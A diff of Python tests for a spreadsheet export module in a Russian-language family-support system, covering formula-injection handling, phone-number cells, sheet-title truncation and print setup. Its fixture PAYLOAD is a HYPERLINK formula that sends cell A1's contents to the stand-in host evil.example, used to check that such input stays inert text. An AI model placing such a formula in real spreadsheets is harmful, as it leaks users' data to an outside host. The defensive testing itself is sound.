@@ -22,7 +22,14 @@ from test_migrations import empty_database_url, migrated  # noqa: F401 - fixture
 
 from models import AuditRecord, Family, db
 from models.base import utcnow
-from workflows.export import Sheet, content_disposition, neutralise, write_workbook
+from workflows.export import (
+    Sheet,
+    content_disposition,
+    formula_like,
+    sheet_title,
+    unique_sheet_titles,
+    write_workbook,
+)
 
 PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")'
 HEADER_ROW = 3
@@ -94,13 +101,59 @@ def test_formula_payload_is_stored_as_text(app, data):
     cells = [c for row in sheet.iter_rows(min_row=HEADER_ROW + 1) for c in row[:1]]
     payload = next(c for c in cells if "HYPERLINK" in str(c.value))
     assert payload.data_type == "s"
-    assert payload.value == "'" + PAYLOAD
+    assert payload.value == PAYLOAD  # as typed: no apostrophe on show
+    assert payload.quotePrefix  # and it stays text when someone edits the cell
 
 
 @pytest.mark.parametrize("text", ["=1+2", "+7 900", "-5", "@SUM(A1)", "\tx", "\rx", "обычный"])
-def test_neutralise(text):
-    """Does every text a spreadsheet could run begin with an apostrophe, and no other?"""
-    assert neutralise(text).startswith("'") == (text[0] in "=+-@\t\r")
+def test_formula_like(text):
+    """Is every text a spreadsheet could run taken for formula-like, and no other?"""
+    assert formula_like(text) == (text[0] in "=+-@\t\r")
+
+
+def _one_sheet(tmp_path, headers, rows, name="Лист"):
+    path = tmp_path / "t.xlsx"
+    with path.open("wb") as out:
+        write_workbook(out, [Sheet(name, "Т", "П", headers, iter(rows))], "Europe/Moscow")
+    return load_workbook(path).active
+
+
+def test_phone_numbers_show_no_apostrophe(tmp_path):
+    """Does a phone number read exactly as typed, «+7 …» kept as text by its format,
+    «8 …» a plain text cell?"""
+    sheet = _one_sheet(tmp_path, ["Телефон"], [["+7 900 123-45-67"], ["8 900 123-45-67"]])
+    plus, eight = sheet["A4"], sheet["A5"]
+    assert (plus.value, plus.data_type, plus.quotePrefix) == ("+7 900 123-45-67", "s", True)
+    assert (eight.value, eight.data_type, eight.quotePrefix) == ("8 900 123-45-67", "s", False)
+
+
+def test_sheet_names_are_cut_at_a_word():
+    """Is a long table title cut to 31 characters at a word boundary, never mid-word,
+    and are two names alike made distinct?"""
+    title = sheet_title("Мероприятия ИПСС за период по видам помощи")
+    assert title == "Мероприятия ИПСС за период по"
+    assert len(title) <= 31
+    assert sheet_title("Оченьдлинноеслововкотороенетпробелов") == "Оченьдлинноеслововкотороенетпро"
+    names = unique_sheet_titles(
+        ["Мероприятия ИПСС за период по видам", "Мероприятия ИПСС за период по специалистам"]
+    )
+    assert names == ["Мероприятия ИПСС за период по", "Мероприятия ИПСС за период по 2"]
+    assert all(len(n) <= 31 for n in names)
+
+
+def test_print_set_up(tmp_path):
+    """Does a wide sheet print landscape, a narrow one portrait, both one page wide on A4
+    with the header row on every page?"""
+    wide = _one_sheet(tmp_path, [f"Столбец {i}" for i in range(8)], [list(range(8))])
+    assert wide.page_setup.orientation == "landscape"
+    narrow = _one_sheet(tmp_path, ["Участок", "Семей"], [["А", 1]])
+    assert narrow.page_setup.orientation in (None, "portrait")
+    for sheet in (wide, narrow):
+        assert sheet.sheet_properties.pageSetUpPr.fitToPage
+        # One page wide (1 is Excel's default, so the file may leave it out), any length.
+        assert sheet.page_setup.fitToWidth in (None, 1) and sheet.page_setup.fitToHeight == 0
+        assert sheet.print_title_rows == "$3:$3"
+        assert sheet.page_setup.paperSize == 9
 
 
 def test_dates_are_date_cells(app, data):
@@ -121,7 +174,7 @@ def test_title_frozen_header_and_autofilter(app, data):
     sheet = workbook(client.get("/family/export/xlsx/?search=Бор")).active
     assert sheet["A1"].value.startswith("Семьи")
     assert "поиск «Бор»" in sheet["A1"].value
-    assert "Иванова Мария Петровна" in sheet["A2"].value
+    assert "Выгрузила Иванова Мария Петровна" in sheet["A2"].value  # she, by her patronymic
     assert "руководитель службы сопровождения" in sheet["A2"].value
     assert sheet.freeze_panes == "A4"
     assert sheet.auto_filter.ref == "A3:F4"
@@ -240,7 +293,7 @@ def test_writer_types_and_total_row(tmp_path):
         )
     assert counts == [2]
     sheet = load_workbook(path).active
-    assert sheet.title == "Отчёт   тест   "
+    assert sheet.title == "Отчёт тест"
     assert [c.value for c in sheet[4]] == ["А", 3, "да"]
     assert [c.value for c in sheet[6]][:2] == ["Итого", 5]
 
